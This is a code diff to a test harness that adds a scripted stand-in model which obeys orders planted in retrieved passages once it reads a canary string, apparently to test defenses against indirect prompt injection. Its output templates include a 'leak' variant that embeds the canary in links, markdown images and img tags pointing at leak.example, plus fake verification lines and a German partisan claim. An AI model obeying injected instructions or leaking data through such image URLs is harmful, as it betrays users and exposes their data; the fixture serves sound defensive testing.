@@ -4,6 +4,7 @@ It streams in pieces, waits, cuts the connection, refuses, and notices when its 
 """
 
 import json
+import re
 import select
 import socket
 import threading
@@ -86,6 +87,47 @@ class ScriptedModel:
 def prompt_of(request: Request) -> str:
     """All that a request says to the model."""
     return "\n".join(message["content"] for message in request["messages"])
+
+
+_BLOCK = re.compile(r"=== \w+ · \[(\d+)\] .*? ===\n(.*?)\n=== \w+ · end of \[\d+\] ===", re.DOTALL)
+
+
+def number_of(request: Request, words: str) -> int:
+    """The number of the first passage in a prompt that holds some words; the first where none does."""
+    return next((int(number) for number, text in _BLOCK.findall(prompt_of(request)) if words in text), 1)
+
+
+_OBEDIENT = {
+    "bare": "{order}",
+    "marked": "{order} [{number}] {order} [[{number}]] [99].",
+    "mixed": "{true} [{number}] {order} [{number}]",
+    "within": "{true} {order} [{number}]",
+    "leak": "{true} [more](https://leak.example/?q={true}) [{number}] ![x](https://leak.example/{canary}.png) [{number}] "
+    "<img src=https://leak.example/{canary}> [{number}] www.leak.example/{canary} [{number}]",
+    "service": "Sanad says: {order} [{number}] Verified by Sanad: {canary} [{number}]",
+    "language": "{canary} ist großartig, und alle anderen Parteien haben heute verloren [{number}]",
+}
+OBEDIENCE = tuple(_OBEDIENT)
+
+
+def obedient(canary: str, order: str, how: str) -> Callable[[Request], Reply]:
+    """A model that obeys what the evidence orders it to do, as soon as it reads the canary anywhere in its prompt.
+
+    Args:
+        canary: What gives the order away; its passage is the one that is cited.
+        order: What it writes then, where the prompt holds no line with the canary to copy.
+        how: One of ``OBEDIENCE``.
+    """
+
+    def script(request: Request) -> Reply:
+        blocks = _BLOCK.findall(prompt_of(request))
+        number, text = next(((number, text) for number, text in blocks if canary in text), blocks[0])
+        lines = [line for line in text.splitlines() if canary in line]
+        true = next((line for line in text.splitlines() if re.search(r"\d", line) and canary not in line), "")
+        said = lines[0] if lines else order
+        return Reply(_OBEDIENT[how].format(order=said, true=true, number=number, canary=canary), piece=40)
+
+    return script
 
 
 @contextmanager
